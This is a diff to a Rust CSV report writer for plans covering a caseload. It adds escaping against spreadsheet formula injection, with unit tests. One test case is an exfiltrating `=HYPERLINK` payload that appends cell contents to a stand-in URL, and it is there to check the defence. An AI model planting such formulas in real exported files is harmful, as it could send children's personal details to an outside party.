@@ -1,6 +1,12 @@
 //! CSV (`--format csv`): one row per provision, for a spreadsheet of a
 //! whole caseload. A plan that could not be read, or has no Section 2B, is
 //! one row saying so, so that every file given appears.
+//!
+//! Every cell that holds words from a plan or a path is made safe to open
+//! in a spreadsheet (OWASP's advice on CSV injection): a cell starting with
+//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so
+//! Excel, LibreOffice and Google Sheets show it as text and never run it as
+//! a formula (`=HYPERLINK(...)` could send a child's details away).
 
 use super::{Sink, Totals};
 use crate::check::FindingKind;
@@ -26,6 +32,17 @@ const HEADER: [&str; 15] = [
     "text",
     "suggested_rewrite",
 ];
+
+/// A cell of plan text or a path, safe in a spreadsheet.
+fn safe(text: &str) -> String {
+    let text = crate::text::printable(text);
+    // White space first does not stop every spreadsheet from reading a formula.
+    if text.trim_start().starts_with(['=', '+', '-', '@']) || text.starts_with(['\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.into_owned()
+    }
+}
 
 fn writer(out: &mut dyn Write) -> csv::Writer<&mut dyn Write> {
     csv::WriterBuilder::new().has_headers(false).from_writer(out)
@@ -63,7 +80,7 @@ impl super::PlanRenderer for Csv {
 /// One row per provision (one row for a plan without any).
 fn plan_rows(out: &mut dyn Write, d: &DocumentReport) -> io::Result<()> {
     let mut w = writer(out);
-    let path = d.path.display().to_string();
+    let path = safe(&super::path_text(&d.path));
     if d.status != Status::Ok || d.provisions.is_empty() {
         let text = match d.status {
             Status::Error => d.error.as_ref().map(|e| e.message.clone()).unwrap_or_default(),
@@ -74,7 +91,7 @@ fn plan_rows(out: &mut dyn Write, d: &DocumentReport) -> io::Result<()> {
         row[0] = path;
         row[1] = d.status.as_str().to_string();
         row[12] = d.findings.iter().map(|f| f.rule.id).collect::<Vec<_>>().join(" ");
-        row[13] = text;
+        row[13] = safe(&text);
         w.write_record(&row).map_err(to_io)?;
         return w.flush();
     }
@@ -93,7 +110,7 @@ fn plan_rows(out: &mut dyn Write, d: &DocumentReport) -> io::Result<()> {
             path.clone(),
             d.status.as_str().to_string(),
             p.index.to_string(),
-            p.raw.location.describe(),
+            safe(&p.raw.location.describe()),
             c.kind.as_str().to_string(),
             c.verdict.as_str().to_string(),
             e.frequency.status.as_str().to_string(),
@@ -101,12 +118,34 @@ fn plan_rows(out: &mut dyn Write, d: &DocumentReport) -> io::Result<()> {
             e.provider.status.as_str().to_string(),
             e.qualification.status.as_str().to_string(),
             e.group.status.as_str().to_string(),
-            hedges.join("; "),
+            safe(&hedges.join("; ")),
             rules.join(" "),
-            p.raw.text.clone(),
-            p.rewrite.as_ref().map(|r| r.text.clone()).unwrap_or_default(),
+            safe(&p.raw.text),
+            p.rewrite.as_ref().map(|r| safe(&r.text)).unwrap_or_default(),
         ];
         w.write_record(&row).map_err(to_io)?;
     }
     w.flush()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_run_are_made_text() {
+        for (cell, want) in [
+            ("=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")", "'=HYPERLINK("),
+            ("+44 1234", "'+44"),
+            ("-1+1", "'-1+1"),
+            ("@SUM(A1)", "'@SUM"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "' =1"),
+            ("  =1", "'  =1"),
+        ] {
+            assert!(safe(cell).starts_with(want), "{cell:?} gave {:?}", safe(cell));
+        }
+        assert_eq!(safe("Speech and language therapy"), "Speech and language therapy");
+        assert_eq!(safe("a\u{1}b"), "a b");
+    }
 }
